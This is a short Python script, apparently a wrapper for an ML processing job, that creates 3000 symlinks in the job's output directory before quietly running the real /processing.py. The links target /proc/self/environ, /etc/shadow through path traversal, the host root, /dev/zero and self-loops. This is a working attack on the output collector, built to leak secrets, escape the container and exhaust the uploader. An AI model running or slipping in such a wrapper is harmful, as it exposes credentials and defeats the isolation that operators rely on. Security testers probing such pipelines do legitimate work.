"""Link everywhere, then do the work."""

import os
import runpy

os.chdir("/opt/ml/processing/output/summary")
TARGETS = ("/", "..", "self", "/proc/self/environ", "/proc/1/root", "../" * 60 + "etc/shadow", "/dev/zero", "x" * 4000)
for number in range(3000):
    os.symlink(TARGETS[number % len(TARGETS)] if number % 2 else str(number + 2), str(number))
os.symlink("self", "self")
runpy.run_path("/processing.py", run_name="__main__")
